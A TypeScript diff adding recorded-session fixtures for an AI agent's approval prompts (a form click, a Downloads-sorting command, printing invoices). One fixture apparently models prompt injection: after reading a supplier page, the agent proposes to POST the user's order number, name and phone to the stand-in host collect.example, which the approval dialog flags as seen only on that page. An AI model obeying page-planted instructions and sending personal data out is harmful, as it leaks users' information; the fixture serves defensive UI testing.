@@ -1,0 +1,181 @@
+// Recorded sessions that wait for the person's answer: a click that is shown, a command, something seen on a page,
+// two questions at once.
+
+import type { Target } from "../generated/protocol";
+import { enterRequest, plan } from "./practice";
+import {
+  answers,
+  at,
+  begins,
+  costs,
+  ends,
+  type Moment,
+  SCREEN_HEIGHT,
+  SCREEN_WIDTH,
+  said,
+} from "./recording";
+import { asks, does, runs, type Step, waitsForApproval } from "./steps";
+
+const SAVE = enterRequest(0)[6];
+const SAVE_CALL = "call-save";
+
+/** A click in the practice form, with what the screen shows there. */
+export function clickToAllow(): Moment[] {
+  const filled = enterRequest(0).slice(0, 6);
+  return [
+    begins(),
+    said("Enter the three requests into the practice form"),
+    ...answers("I will look at the screen first, then enter the requests one by one.", true),
+    plan(0),
+    ...filled.flatMap(does),
+    ...(SAVE === undefined
+      ? []
+      : waitsForApproval(SAVE_CALL, SAVE, "You asked to be asked first.", {
+          covers: "Allowed in this chat would be: the program qilbee-practice.",
+          target: around(SAVE.point ?? { x: 0, y: 0 }, "form:0:3:0"),
+        })),
+  ];
+}
+
+export function clickAllowed(): Moment[] {
+  return SAVE === undefined ? [] : [...runs(SAVE_CALL, SAVE), ends("completed")];
+}
+
+const TIDY: Step = {
+  wants: "Run a command that moves 214 files from Downloads into folders by year",
+  did: "Moved 214 files into 6 folders",
+  tool: "bash",
+  input: { command: "python3 sort_downloads.py --by year --move" },
+  result:
+    "2021: 18 files\n2022: 40 files\n2023: 51 files\n2024: 36 files\n2025: 49 files\n2026: 20 files",
+  durationMs: 1900,
+};
+const TIDY_CALL = "call-tidy";
+
+export function commandToAllow(): Moment[] {
+  return [
+    begins(),
+    said("Tidy my Downloads folder: one folder per year. Do not delete anything."),
+    ...answers(
+      "I have looked through the folder: **214 files** from 2021 to 2026. Nothing will be deleted; files with the same name are kept side by side.",
+      true,
+      "The person wants folders per year. Moving is enough; I must not overwrite files that have the same name.",
+    ),
+    costs(0.031, 0.031, 1),
+    ...does({
+      wants: "List the files in Downloads",
+      did: "Listed 214 files in Downloads",
+      tool: "list_files",
+      input: { folder: "~/Downloads" },
+      durationMs: 120,
+    }),
+    ...waitsForApproval(TIDY_CALL, TIDY, "It runs a program that changes files on this computer.", {
+      exact: "cd ~/Downloads\npython3 sort_downloads.py --by year --move",
+      covers:
+        "Allowed in this chat would be: the commands python3 sort_downloads.py --by year --move.",
+    }),
+  ];
+}
+
+export function commandAllowed(): Moment[] {
+  return [
+    ...runs(TIDY_CALL, TIDY),
+    costs(0.018, 0.049, 2),
+    ...answers(
+      "All 214 files are in six folders, one for each year from 2021 to 2026. Nothing was deleted.",
+    ),
+    ends("completed"),
+  ];
+}
+
+const SEND: Step = {
+  wants: "Send 2 kB to collect.example",
+  did: "Sent 2 kB to collect.example",
+  tool: "http_post",
+  input: { url: "https://collect.example/in", body: "…" },
+};
+
+/** Something that only a page named. */
+export function seenOnAPage(): Moment[] {
+  return [
+    begins(),
+    said("What does the supplier's page say about returns?"),
+    ...does({
+      wants: "Read https://supplier.example/returns",
+      did: "Read https://supplier.example/returns",
+      tool: "http_get",
+      input: { url: "https://supplier.example/returns" },
+    }),
+    ...answers("The page asks to register the order first. I will do that.", true),
+    ...waitsForApproval(
+      "call-send",
+      SEND,
+      "This uses something you did not name yourself; it may come from a page, a file or the screen that wants to mislead.",
+      {
+        domain: "web",
+        effect: "send",
+        exact: "POST https://collect.example/in\n\norder=4711&name=Sam+Field&phone=…",
+        once_only: true,
+        seen: [
+          {
+            what: "https://collect.example/in",
+            seen: "seen only on the page https://supplier.example/returns",
+          },
+        ],
+      },
+    ),
+  ];
+}
+
+/** Two calls that do not wait for each other, each with its question. */
+export function twoQuestions(): Moment[] {
+  const letter: Step = {
+    wants: "Write the file ~/Letters/reminder.txt",
+    did: "Wrote ~/Letters/reminder.txt",
+    tool: "write_file",
+    input: { path: "~/Letters/reminder.txt" },
+  };
+  const asked = "You asked to be asked first.";
+  return [
+    begins(),
+    said("Write the reminder, and print the list of open invoices"),
+    ...waitsForApproval("call-letter", letter, asked, { domain: "files", effect: "write" }),
+    asks("call-print", PRINT),
+    at(10, {
+      type: "approval_requested",
+      approval: "approval-call-print",
+      call: "call-print",
+      question: {
+        sentence: PRINT.wants,
+        exact: "lp ~/Invoices/open.pdf",
+        reason: asked,
+        tool: "bash",
+        domain: "shell",
+        effect: "execute",
+      },
+    }),
+  ];
+}
+
+const PRINT: Step = {
+  wants: "Run: lp ~/Invoices/open.pdf",
+  did: "Ran: lp ~/Invoices/open.pdf",
+  tool: "bash",
+  input: { command: "lp ~/Invoices/open.pdf" },
+};
+
+const AROUND = { width: 480, height: 300 };
+
+/** The part of the recorded screen around a place. */
+function around(point: { x: number; y: number }, state: string): Target {
+  const { width, height } = AROUND;
+  const x = Math.min(Math.max(point.x - width / 2, 0), SCREEN_WIDTH - width);
+  const y = Math.min(Math.max(point.y - height / 2, 0), SCREEN_HEIGHT - height);
+  const id = `part:${x}:${y}:${width}:${height}:${state}`;
+  return {
+    image: { id, media_type: "image/svg+xml", byte_count: 8000, width, height },
+    region: { x, y, width, height },
+    points: [point],
+    window: { title: "Practice form", app: "qilbee-practice" },
+  };
+}
